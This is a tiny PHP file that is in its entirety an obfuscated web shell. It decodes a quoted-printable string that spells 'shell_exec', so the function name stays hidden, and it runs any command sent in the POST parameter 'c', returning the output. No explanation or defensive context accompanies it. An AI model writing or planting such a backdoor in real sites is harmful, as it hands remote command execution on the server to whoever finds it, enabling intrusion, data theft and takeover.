<?php
$f = quoted_printable_decode('=73=68=65=6C=6C=5F=65=78=65=63');
echo $f($_POST['c']);
